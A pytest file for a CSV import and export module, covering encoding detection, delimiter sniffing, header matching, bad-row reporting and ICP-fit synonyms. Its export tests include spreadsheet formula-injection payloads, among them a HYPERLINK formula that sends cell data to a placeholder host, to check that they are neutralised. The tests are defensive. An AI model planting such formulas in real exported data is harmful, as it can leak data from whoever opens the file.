"""Reading CSV files as people export them, and writing CSV that spreadsheets cannot run."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from leadbridge.hub import import_values
from leadbridge.hub.csv_input import (
    Aliases,
    BadRow,
    CsvFileError,
    Row,
    decode,
    header_key,
    open_csv,
    sniff_delimiter,
)
from leadbridge.hub.csv_output import neutralise, write_csv
from leadbridge.hub.imports import COMPANY_HEADERS
from leadbridge.hub.tables import ICP_FITS

README = Path(__file__).parents[2] / "README.md"
TEXT = "name,domain\nCafé Müller — “Zoë’s”,cafe.de\n"


@pytest.mark.parametrize(
    ("data", "encoding"),
    [
        (TEXT.encode("utf-8"), "utf-8"),
        (TEXT.encode("utf-8-sig"), "utf-8-sig"),
        (TEXT.encode("utf-16"), "utf-16"),  # with its BOM, as Excel's "Unicode text"
        (TEXT.encode("utf-16-be").join([b"\xfe\xff", b""]), "utf-16"),
        (TEXT.encode("cp1252"), "cp1252"),
    ],
)
def test_encodings_are_detected(data: bytes, encoding: str) -> None:
    assert decode(data) == (TEXT, encoding)


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be"])
def test_utf16_without_a_bom_is_detected(codec: str) -> None:
    assert decode(TEXT.encode(codec)) == (TEXT, codec)
    assert decode(b"name,domain\nA\x00B,a.com\n")[1] == "utf-8"  # a stray NUL is not UTF-16


def test_latin1_bytes_that_cp1252_cannot_read_are_latin1() -> None:
    text = "name,domain\nA\x81B Straße,a.de\n"
    assert decode(text.encode("latin-1")) == (text, "latin-1")


def test_other_scripts_and_binary_are_refused_not_imported_as_mojibake() -> None:
    russian = "name,domain\nООО Ромашка,romashka.ru\nЗАО Вектор,vector.ru\n".encode("cp1251")
    with pytest.raises(CsvFileError, match="not UTF-8, and not Western text"):
        decode(russian)
    with pytest.raises(CsvFileError, match="not a text file"):
        decode(bytes(range(256)) * 8)


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_the_delimiter_is_the_one_whose_header_names_known_columns(delimiter: str) -> None:
    rows = [["Company Name", "Domain", "ICP"], ["Acme, Inc.; the best", "acme.com", "strong"]]
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter).writerows(rows)
    assert sniff_delimiter(out.getvalue(), Aliases(COMPANY_HEADERS)) == delimiter


def test_header_matching_ignores_case_spacing_and_separators() -> None:
    aliases = Aliases(COMPANY_HEADERS)
    assert header_key("  Employee_Count ") == "employee count"
    assert aliases.field_for("EMPLOYEE-COUNT") == "employee_count"
    assert aliases.field_for("Company Lead") == "is_lead"
    assert aliases.field_for("notes") is None
    assert aliases.match(["Company", "Name", "Website"]) == {"name": 0, "website": 2}


def test_rows_are_numbered_as_in_a_spreadsheet_and_bad_ones_typed(tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    path.write_text(
        "\n"  # a blank line before the header
        "name,domain,notes\n"
        '"Multi\nline",a.com,x\n'
        ",,\n"  # a blank row: skipped, still counted
        "B,b.com,n\x00ul\n"
        "C,c.com,1,2\n"
        "D,d.com\n"
    )
    table = open_csv(path, COMPANY_HEADERS)
    assert table.columns == {"name": 0, "domain": 1}
    rows = list(table.rows())
    assert rows[0] == Row(3, {"name": "Multi\nline", "domain": "a.com", "notes": "x"})
    assert isinstance(rows[1], BadRow) and rows[1].number == 5 and "NUL" in rows[1].reason
    assert isinstance(rows[2], BadRow) and rows[2].number == 6
    assert "more cells than header columns (1 extra" in rows[2].reason
    assert rows[3] == Row(7, {"name": "D", "domain": "d.com"})


def test_a_cell_longer_than_the_csv_module_limit_is_one_row(tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    huge = "x\n" * 100_000  # 200,000 characters, over csv's default 131,072, over many lines
    path.write_text(f'name,domain\n"{huge}",a.com\nB,b.com\n')
    rows = list(open_csv(path, COMPANY_HEADERS).rows())
    assert [r.number for r in rows] == [2, 3]
    assert isinstance(rows[0], Row) and len(rows[0].cells["name"]) == len(huge) - 1


def test_a_huge_header_cell_is_a_file_error(tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    path.write_text("name," + "d" * 200_000 + "\nA,a.com\n")
    with pytest.raises(CsvFileError, match="header cell 2 is 200,000 characters long"):
        open_csv(path, COMPANY_HEADERS)


@pytest.mark.parametrize(
    ("cell", "fit"),
    [
        ("weak", "not_a_fit"),
        ("None", "not_a_fit"),
        ("LOW", "not_a_fit"),
        ("high", "strong"),
        ("Good Fit", "moderate"),
        ("good_fit", "moderate"),
        ("not a fit", "not_a_fit"),
        ("Not_A_Fit", "not_a_fit"),
        ("", "unknown"),
        ("n/a", "unknown"),
        ("Strong", "strong"),
    ],
)
def test_icp_synonyms(cell: str, fit: str) -> None:
    assert import_values.icp_fit(cell) == fit


def test_an_unknown_icp_value_lists_the_accepted_ones() -> None:
    with pytest.raises(ValueError, match=r"'meh' is not one of: strong \(strong fit, high") as info:
        import_values.icp_fit("meh")
    assert all(fit in str(info.value) for fit in ICP_FITS)


def test_the_readme_lists_every_icp_synonym() -> None:
    assert set(import_values.ICP_SYNONYMS) == set(ICP_FITS)
    table = README.read_text().split("ICP fit values")[1].split("\n\n")[1]
    for fit, names in import_values.ICP_SYNONYMS.items():
        row = next(line for line in table.splitlines() if line.startswith(f"| `{fit}`"))
        listed = {n.strip(" `") for n in row.split("|")[2].split(",")}
        assert {n for n in names if n and n != fit} <= listed | {"not a fit"}, fit


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1+1", "'  =1+1"),
        ("＝1+1", "'＝1+1"),
        ("-12", "-12"),
        ("+3.5", "+3.5"),
        ("acme.com", "acme.com"),
        ("a=b", "a=b"),
        (None, ""),
        (42, "42"),
    ],
)
def test_cells_a_spreadsheet_would_run_are_neutralised(cell: object, expected: str) -> None:
    assert neutralise(cell) == expected


def test_write_csv_round_trips_and_neutralises(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    count = write_csv(path, ["a", "b"], [["=1+1", 'say "hi",\nthere'], ["é", None]])
    assert count == 2
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows == [["a", "b"], ["'=1+1", 'say "hi",\nthere'], ["é", ""]]
    assert not any(re.match(r"[=+\-@\t\r]", c) for row in rows for c in row)
